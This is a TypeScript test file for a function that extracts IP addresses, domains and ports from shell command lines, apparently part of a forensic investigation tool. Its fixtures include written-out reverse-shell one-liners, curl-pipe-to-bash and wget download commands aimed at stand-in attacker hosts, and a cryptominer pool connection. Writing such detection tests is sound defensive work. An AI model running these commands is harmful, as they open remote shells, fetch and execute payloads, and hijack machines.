import { describe, expect, it } from 'vitest';
import { addressesIn } from '#dist/investigate/analysis/command-addresses.js';

/** The values with their ports, as far as there are any. */
function found(command: string): readonly string[] {
  return addressesIn(command).map(({ value, port }) =>
    port === undefined ? value : `${value} ${port}`,
  );
}

describe('the addresses in a command line', () => {
  it.each<readonly [command: string, values: readonly string[]]>([
    ['curl -fsSL http://192.0.2.66/x.sh|bash', ['192.0.2.66']],
    ['wget https://cdn.example.com:8443/a', ['cdn.example.com 8443']],
    ['curl http://user:pw@203.0.113.5:8080/x', ['203.0.113.5 8080']],
    ["bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", ['203.0.113.9 4444']],
    ['sh -c exec 5<>/dev/udp/c2.example.net/53', ['c2.example.net 53']],
    ['nc 203.0.113.9 4444', ['203.0.113.9']],
    ['ssh root@203.0.113.9', ['203.0.113.9']],
    ['HOST=203.0.113.9 ./x', ['203.0.113.9']],
    ['./x 203.0.113.9:1525', ['203.0.113.9 1525']],
    ['curl http://[2001:db8::1]:8080/', ['2001:db8::1 8080']],
    ['nc 2001:DB8::5 80', ['2001:db8::5']],
    ['xmrig -o stratum+tcp://pool.example.org:3333', ['pool.example.org 3333']],
    ['scp a 2001:db8::1', ['2001:db8::1']],
    ['curl 192.0.2.1 192.0.2.1', ['192.0.2.1']],
  ])('of %s are %j', (command, values) => {
    expect(found(command)).toEqual(values);
  });

  it.each([
    ['dpkg -i foo-1.2.3.4.deb', 'a version after a hyphen'],
    ['tar xf app-1.2.3.4-1.tgz', 'a version between hyphens'],
    ['./install v1.2.3.4', 'a version after a v'],
    ['ls /opt/1.2.3.4/bin', 'a directory'],
    ['apt-get install foo=1.2.3.4', 'a version for a package manager'],
    ['pip install foo==1.2.3.4', 'a version after =='],
    ['ifconfig eth0 netmask 255.255.255.0', 'a netmask'],
    ['nc -l 127.0.0.1 80', 'the host itself'],
    ['./serve 0.0.0.0:80 [::]:80 ::1', 'no address'],
    ['ip route add 10.0.0.0/8', 'a network'],
    ['./x 1.2.3.4.5', 'five numbers'],
    ['./x 999.1.2.3', 'no octet'],
    ['date -s 12:34:56', 'a time'],
    ['ip link set address 02:42:5c:b3:2b:1b', 'a hardware address'],
    ['perl -e Foo::Bar->new', 'a name in a program'],
    ['curl http://localhost:80/', 'the name of the host itself'],
    ['cat /etc/hosts.allow', 'a file'],
  ])('are none in %s: %s', (command) => {
    expect(found(command)).toEqual([]);
  });
});

function namesIn(command: string): { readonly addresses: string[]; readonly domains: string[] } {
  const found = addressesIn(command);
  const valuesOf = (kind: string): string[] =>
    found.filter((one) => one.kind === kind).map(({ value }) => value);
  return { addresses: valuesOf('address'), domains: valuesOf('domain') };
}

describe('other command lines', () => {
  it.each<[command: string, addresses: string[], domains: string[]]>([
    ['curl -fsSL http://192.0.2.66/x.sh|bash', ['192.0.2.66'], []],
    ['wget -q http://198.51.100.140:8080/y;chmod 777 y', ['198.51.100.140'], []],
    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', ['203.0.113.9'], []],
    ['bash -c exec 3<>/dev/tcp/c2.evil.example/443', [], ['c2.evil.example']],
    ['nc 203.0.113.9 4444 -e /bin/sh', ['203.0.113.9'], []],
    ['python3 -c \'s.connect(("203.0.113.9",4444))\'', ['203.0.113.9'], []],
    ['socat tcp:[2001:db8::66]:443 exec:sh', ['2001:db8::66'], []],
    ['curl http://[2001:db8::66]:8080/x', ['2001:db8::66'], []],
    ['ssh 2001:db8::66', ['2001:db8::66'], []],
    ['curl https://user:secret@files.evil.example:8443/a?b#c', [], ['files.evil.example']],
    ['miner -o stratum+tcp://pool.evil.example:3333', [], ['pool.evil.example']],
    ['scp -P 22 a root@files.evil.example:/tmp', [], ['files.evil.example']],
    ['git config user.email someone@evil.example', [], []],
  ])('%s', (command, addresses, domains) => {
    expect(namesIn(command)).toEqual({ addresses, domains });
  });

  it.each([
    'apt-get install libc6-2.31.0.1',
    'pip install foo==v1.2.3.4',
    'tar xf app_1.2.3.4.tar.gz',
    'ls /opt/app/1.2.3.4/bin',
    'ip addr add 10.0.0.0/8 dev eth0',
    'ifconfig eth0 netmask 255.255.255.0',
    'nc -l 0.0.0.0 80',
    'curl http://127.0.0.1/ http://[::1]/ http://localhost/',
    'app --version 1.2.3.4.5',
    'echo 300.1.1.1',
    'date +%H::%M',
  ])('are not versions, networks, or addresses of every host: %s', (command) => {
    expect(namesIn(command)).toEqual({ addresses: [], domains: [] });
  });

  it('take no time that grows faster than a long command', () => {
    const command = `curl ${'a.'.repeat(100_000)} ${'1.1.'.repeat(100_000)} http://${'x'.repeat(200_000)}`;
    expect(namesIn(command)).toEqual({ addresses: [], domains: [] });
  });
});
